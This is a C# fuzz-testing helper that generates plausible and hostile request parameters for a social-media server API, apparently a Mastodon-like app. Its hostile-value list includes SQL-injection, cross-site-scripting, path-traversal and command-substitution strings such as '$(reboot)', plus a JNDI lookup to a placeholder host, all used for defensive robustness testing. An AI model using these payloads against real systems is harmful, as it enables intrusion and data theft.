using System.Globalization;
using System.Text;

namespace Chirp.Engine.Tests.Server.Fuzz;

/// <summary>
/// Parameter values: plausible ones (real ids, well-formed text, the app's credentials), so requests get past the
/// first check, and hostile ones (wrong types, huge numbers, control characters, lone surrogates, emoji, injection
/// and query-syntax strings, 10,000-character strings).
/// </summary>
public sealed class FuzzValues(Random random, FuzzTargets targets)
{
    private static readonly string[] Hostile =
    [
        "", " ", "\t\n", "a", "0", "-1", "1", "01", "+1", "1.5", "-0", "1e309", "1e3", "0x10", "NaN", "Infinity", "true", "false", "null", "undefined",
        "[]", "{}", "[1]", "{\"a\":1}", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
        "-9223372036854775808", "18446744073709551616", "99999999999999999999999999999999999999", "0000000000000000000001",
        "\0", "a\0b", "\u0001\u0002\u001f", "\u007f", "\r\n\r\nHTTP/1.1 200 OK\r\n", "\b\f\v", "\u0085\u2028\u2029",
        "héllo", "日本語のテキスト", "🐦", "🔥🔥🔥", "👩‍👩‍👧‍👦", "🏳️‍🌈", "\u202Eevil\u202C", "\u200B", "\uFEFF", "\uFFFE", "\uFFFF", "\U0010FFFF",
        "e\u0301\u0301\u0301\u0301", "\u00A0", "\u3000", "Ω≈ç√∫", "İı", "ß", "ﬃ",
        "\uD800", "a\uDC00b", "\uDBFF", "\uDC00\uD800", "x\uD83D", "\uDE00y",
        "'; DROP TABLE statuses;--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd", "..\\..\\boot.ini",
        "%00", "%s%n%x", "{{7*7}}", "${jndi:ldap://example.invalid/a}", "$(reboot)", "`id`",
        "*", "?", "ann*", "*ann", "\"unterminated", "\"\"", "(((", ")))", "a AND", "OR", "NOT", "AND OR NOT", "text:x", "[a TO z]", "{a TO z}",
        "a~2", "a^10", "\\", "/regex/", "+-&&||!(){}[]^\"~*?:\\/", "a:b:c", "-", "--", "+", "!", "#", "##", "#1", "#_", "#é", "@", "@@", "@ann",
        "@ann@127.0.0.1", "@ann@evil.example", "ann@example.com", "@ann@", "ann@@x", "http://", "https://example.com/#frag",
        "javascript:alert(1)", "urn:ietf:wg:oauth:2.0:oob", "urn:ietf:wg:oauth:2.0:oob\nhttps://example.com/cb", "file:///etc/passwd",
        "read", "write", "follow", "push", "admin:read", "read read read", "read:statuses write:nope", "READ",
    ];

    private static readonly string[] Words = ["hello", "world", "chirp", "fuzz", "bird", "tweet", "again", "why", "not", "ok", "the", "a"];

    /// <summary>A value for the named parameter: plausible a little more often than hostile.</summary>
    public string For(string name) => random.NextDouble() < 0.55 ? Plausible(name) : HostileValue();

    public string HostileValue() => random.Next(10) switch
    {
        0 => LongString(),
        1 => UnicodeSoup(random.Next(1, 40)),
        2 => Pick(Hostile) + Pick(Hostile),
        _ => Pick(Hostile),
    };

    public string Plausible(string name) => name switch
    {
        "status" or "note" or "description" or "spoiler_text" => Text(),
        "display_name" => random.Next(3) == 0 ? "" : Pick(Words) + " " + Pick(["🐦", "é", "Ann", "<b>x</b>"]),
        "in_reply_to_id" or "account_id" or "id" or "max_id" or "min_id" or "since_id" => Id(),
        "media_ids" => random.Next(2) == 0 ? Pick(targets.MediaIds) : Id(),
        "limit" => Pick(["0", "1", "5", "20", "40", "41", "80", "81", "1000", "-5"]),
        "offset" => Pick(["0", "1", "5", "39", "40", "200", "201", "-1"]),
        "q" => Pick([.. targets.Hashtags.Select(h => "#" + h), .. targets.Usernames, "hello", "#", "@ann", "ann", "a b c", "hello world"]),
        "type" => Pick(["accounts", "statuses", "hashtags", "", "Accounts", "users"]),
        "acct" => Pick([.. targets.Usernames, .. targets.Usernames.Select(u => "@" + u), "ann@127.0.0.1", "ann@example.com", "nobody"]),
        "client_id" => random.Next(4) == 0 ? "nope" : targets.ClientId,
        "client_secret" => random.Next(4) == 0 ? targets.ClientSecret[..^1] : targets.ClientSecret,
        "grant_type" => Pick(["password", "client_credentials", "authorization_code", "refresh_token", "implicit"]),
        "username" => random.Next(3) == 0 ? "fz" + random.Next(1_000_000).ToString(CultureInfo.InvariantCulture) : Pick(targets.Usernames),
        "email" => Pick(["fz@example.com", "ann@example.com", "no-at-sign", "a@b", "@example.com"]),
        "password" => random.Next(2) == 0 ? targets.Password : Pick(["short", "wrong password", new string('p', 129)]),
        "token" => Pick([targets.RevocableToken, targets.AnnToken, "not-a-token"]),
        "code" or "code_verifier" or "code_challenge" or "state" => Pick(["abc", new string('x', 43), "", Convert.ToBase64String(Bytes(32))]),
        "code_challenge_method" => Pick(["S256", "plain", "s256", "md5"]),
        "redirect_uri" or "redirect_uris" or "website" => Pick(["urn:ietf:wg:oauth:2.0:oob", "https://example.com/cb", "not a uri", "https://example.com/#x"]),
        "scope" or "scopes" => Pick(["read", "read write follow", "write:statuses", "read:accounts write:media", "push", "admin:read", ""]),
        "response_type" => Pick(["code", "token", ""]),
        "client_name" => Pick(["fuzz app", "", new string('n', 201), "🐦 app"]),
        "agreement" or "deny" or "approve" or "sensitive" or "locked" or "bot" or "reblogs" or "notify" or "resolve" or "following" or "local"
            or "only_media" or "exclude_replies" or "exclude_reblogs" or "pinned" or "with_dismissed" or "with_suspended" or "exclude_unreviewed" or "any"
            => Pick(["true", "false", "1", "0", "on", "yes", ""]),
        "visibility" => Pick(["public", "unlisted", "private", "direct", "secret"]),
        "hashtag" or "tagged" or "all" or "none" => Pick([.. targets.Hashtags, "nothing", "é", "_"]),
        "language" or "locale" => Pick(["en", "de", "xx", "en-US", ""]),
        _ => Pick(Words),
    };

    /// <summary>An id: most often a real one, else a number that names nothing.</summary>
    public string Id() => random.Next(4) switch
    {
        0 => Pick(targets.AccountIds),
        1 or 2 => Pick(targets.StatusIds),
        _ => random.NextInt64(1, long.MaxValue).ToString(CultureInfo.InvariantCulture),
    };

    /// <summary>Status-like text: words, hashtags, mentions, links and emoji, usually within the 280-character limit.</summary>
    public string Text()
    {
        var text = new StringBuilder();
        int words = random.Next(1, 12);
        for (int i = 0; i < words; i++)
        {
            text.Append(random.Next(8) switch
            {
                0 => "#" + Pick(targets.Hashtags),
                1 => "@" + Pick(targets.Usernames),
                2 => "https://example.com/p?q=" + random.Next(100).ToString(CultureInfo.InvariantCulture),
                3 => Pick(["🐦", "🔥", "👩‍👩‍👧‍👦", "日本", "é"]),
                _ => Pick(Words),
            }).Append(' ');
        }

        return text.ToString().TrimEnd();
    }

    /// <summary>Random code points from every class that gives text handling trouble, lone surrogates included.</summary>
    public string UnicodeSoup(int length)
    {
        var soup = new StringBuilder(length * 2);
        for (int i = 0; i < length; i++)
        {
            switch (random.Next(8))
            {
                case 0:
                    soup.Append((char)random.Next(0, 0x20));
                    break;
                case 1:
                    soup.Append((char)random.Next(0xD800, 0xE000));
                    break;
                case 2:
                    soup.Append(char.ConvertFromUtf32(random.Next(0x1F300, 0x1FAFF)));
                    break;
                case 3:
                    soup.Append((char)random.Next(0x300, 0x370));
                    break;
                case 4:
                    soup.Append(Pick(["\u200B", "\u200D", "\u202E", "\uFEFF", "\uFFFD", "\uFFFE", "\uFFFF", "\u0085", "\u2028"]));
                    break;
                case 5:
                    soup.Append((char)random.Next(0x80, 0xD800));
                    break;
                default:
                    soup.Append((char)random.Next(0x20, 0x7F));
                    break;
            }
        }

        return soup.ToString();
    }

    /// <summary>10,000 characters (or a little more): plain, emoji, hashtags, digits, or soup.</summary>
    public string LongString() => random.Next(5) switch
    {
        0 => new string('a', 10_000),
        1 => string.Concat(Enumerable.Repeat("🐦", 5_000)),
        2 => "#" + new string('x', 10_000),
        3 => new string('9', 10_000),
        _ => UnicodeSoup(10_000),
    };

    public byte[] Bytes(int count)
    {
        byte[] bytes = new byte[count];
        random.NextBytes(bytes);
        return bytes;
    }

    public T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
